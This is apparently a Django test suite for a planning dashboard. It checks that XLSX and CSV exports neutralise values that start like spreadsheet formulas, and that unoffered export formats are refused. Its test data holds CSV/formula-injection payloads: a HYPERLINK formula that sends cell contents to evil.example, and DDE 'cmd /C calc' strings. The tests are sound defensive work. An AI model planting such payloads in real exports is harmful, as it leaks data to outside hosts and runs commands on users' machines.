"""Exports cannot carry live formulas, and only the offered formats are served."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from actions.models import Task
from metrics.models import ProgressNote
from planboard.exports import from_spreadsheet, to_spreadsheet
from tests.metrics.reporting import TODAY, WEEK, indicators, sheet_post, sheet_url

URL = "/dashboards/actions/1/"
ATTACK = '=HYPERLINK("http://evil.example/?d="&B2&C2)'


@pytest.fixture
def rolled(cast, settings):
    from metrics.rollup.services import rollup_plan_weeks

    settings.PLANBOARD_TODAY = TODAY
    rollup_plan_weeks(plan=cast.plan, first=datetime.date(2022, 5, 2), last=TODAY)
    return cast


class FormulaHelperTests:
    @pytest.mark.parametrize("text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "\n=1"])
    def test_it_marks_text_that_would_be_a_formula_and_takes_the_mark_off_again(self, text):
        assert to_spreadsheet(text) == "'" + text
        assert from_spreadsheet(to_spreadsheet(text)) == text

    @pytest.mark.parametrize("value", [12, 12.5, -3, "-3.5", "+12%", "1,234.5", "新进展", "", None])
    def test_numbers_and_ordinary_text_stay_as_they_are(self, value):
        assert to_spreadsheet(value) == value


@pytest.mark.django_db
class LedgerExportTests:
    @pytest.fixture
    def attack(self, rolled):
        task = Task.objects.get(action__number=1)
        ProgressNote.objects.create(task=task, department=rolled.dept_a, period_start=datetime.date(2022, 5, 9),
                                    progress=ATTACK, problems="@SUM(1+1)*cmd|' /C calc'!A0", next_steps="-1+1")
        return rolled

    def test_the_xlsx_has_no_formula_cell(self, client, attack):
        client.force_login(attack.leader)
        response = client.get(URL, {"_export": "xlsx"})
        assert response.status_code == 200
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert "'" + ATTACK in [cell.value for cell in cells]

    def test_the_csv_has_no_cell_starting_a_formula(self, client, attack):
        client.force_login(attack.leader)
        response = client.get(URL, {"_export": "csv"})
        lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert "'" + ATTACK in lines[1]
        assert not [cell for line in lines for cell in line if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    @pytest.mark.parametrize("export_format", ["json", "latex", "yaml", "ods", "xls", "tsv", "html"])
    def test_it_refuses_formats_it_does_not_offer_with_a_message(self, client, rolled, export_format):
        client.force_login(rolled.leader)
        response = client.get(URL, {"_export": export_format})
        assert response.status_code == 400
        assert f"“{export_format}”不是本页面提供的导出格式：请选择 xlsx, csv 之一。" in response.content.decode()
        assert response["Content-Type"].startswith("text/html")


@pytest.mark.django_db
class SheetTemplateFormulaTests:
    def test_a_note_starting_like_a_formula_is_text_in_the_template_and_comes_back_unchanged(self, client, cast, settings):
        settings.PLANBOARD_TODAY = TODAY
        ind = indicators(cast.plan)[0]
        client.force_login(cast.staff_a)
        assert client.post(sheet_url(cast.dept_a), sheet_post(cast.dept_a, {ind: ("7", ATTACK)})).status_code == 302
        response = client.get(reverse("metrics:xlsx_download") + f"?department={cast.dept_a.code}&frequency=weekly&period={WEEK}")
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        # Uploaded back unchanged, the note is what was typed, so nothing changes.
        out = io.BytesIO()
        book.save(out)
        upload = SimpleUploadedFile("sheet.xlsx", out.getvalue())
        response = client.post(reverse("metrics:xlsx_upload"), {"department": cast.dept_a.code, "frequency": "weekly",
                                                               "period": WEEK.isoformat(), "workbook": upload})
        assert response.status_code == 200
        assert response.context["changes"] == []
